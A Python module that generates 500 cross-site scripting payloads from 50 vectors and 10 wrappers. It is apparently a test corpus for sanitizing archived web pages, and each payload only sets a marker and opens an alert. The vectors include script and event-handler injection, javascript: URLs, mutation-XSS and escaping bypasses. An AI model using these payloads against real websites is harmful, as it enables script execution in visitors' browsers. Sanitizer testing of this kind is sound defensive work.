"""Five hundred ways to run a script from an archived page; each sets window.PWNED or opens a dialog if it fires."""

from __future__ import annotations

import html
from itertools import product

FIRE = "window.PWNED=1;alert(1)"
VECTORS = (
    "<script>{f}</script>",
    "<ScRiPt>{f}</sCrIpT>",
    "<script src=data:text/javascript,{f}></script>",
    "<img src=x onerror={f}>",
    '<img src="x" onerror="{f}">',
    "<img/src=x/onerror={f}>",
    "<svg onload={f}>",
    "<svg><script>{f}</script></svg>",
    "<svg><animate onbegin={f} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{f}'><text x=0 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{f}'/>#x\"></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={f}></style></mglyph></table></mtext></math>",
    "<math href='javascript:{f}'>click</math>",
    "<iframe src='javascript:{f}'></iframe>",
    '<iframe srcdoc="<script>parent.{f}</script>"></iframe>',
    "<object data='javascript:{f}'></object>",
    "<embed src='javascript:{f}'>",
    "<a href='javascript:{f}' autofocus onfocus={f}>x</a>",
    "<a href='java\tscript:{f}'>x</a>",
    "<a href='&#106;avascript:{f}'>x</a>",
    "<a href='vbscript:{f}'>x</a>",
    "<a href='data:text/html,<script>{f}</script>'>x</a>",
    "<body onload={f}>",
    "<input autofocus onfocus={f}>",
    "<details open ontoggle={f}>x</details>",
    "<video><source onerror={f}></video>",
    "<audio src=x onerror={f}>",
    "<marquee onstart={f}>x</marquee>",
    "<form action='javascript:{f}'><button>x</button></form>",
    "<button formaction='javascript:{f}' form=x>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{f}'>",
    "<base href='javascript:{f}//'>",
    "<link rel=stylesheet href='javascript:{f}'>",
    "<style>@import 'javascript:{f}';</style>",
    "<p style=\"background:url('javascript:{f}')\">x</p>",
    "<p style='animation-name:x' onanimationstart={f}>x</p>",
    '<noscript><p title="</noscript><img src=x onerror={f}>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={f}>",
    '<svg></p><style><a id="</style><img src=x onerror={f}>">',
    "<template><img src=x onerror={f}></template>",
    "<textarea><img title='</textarea><img src=x onerror={f}>'></textarea>",
    "<title><img title='</title><img src=x onerror={f}>'></title>",
    "<!--><img src=x onerror={f}>-->",
    "<!--[if IE]><script>{f}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={f}>]]>",
    "<xmp><img title='</xmp><img src=x onerror={f}>'></xmp>",
    '"><img src=x onerror={f}>',
    "'><svg/onload={f}>",
    "</p></div></article></main><script>{f}</script>",
    "{{{{constructor.constructor('{f}')()}}}}${{{f}}}",
)
WRAPS = (
    "{v}",
    "<p>{v}</p>",
    "<table><tr><td>{v}</td></tr></table>",
    "<figure><figcaption>{v}</figcaption></figure>",
    "<div><blockquote>{v}",
    "<ul><li>{v}</li></ul>",
    "\u202e{v}\u200b",
    "<h2>{v}</h2>",
    "<a href='http://127.0.0.1/x'>{v}</a>",
    "{e}",
)


def payloads() -> list[str]:
    """All of them, in a fixed order; "{e}" is a payload that was escaped once on its way here."""
    made = []
    for vector, wrap in product(VECTORS, WRAPS):
        fired = vector.format(f=FIRE)
        made.append(wrap.format(v=fired, e=html.escape(fired)))
    return made
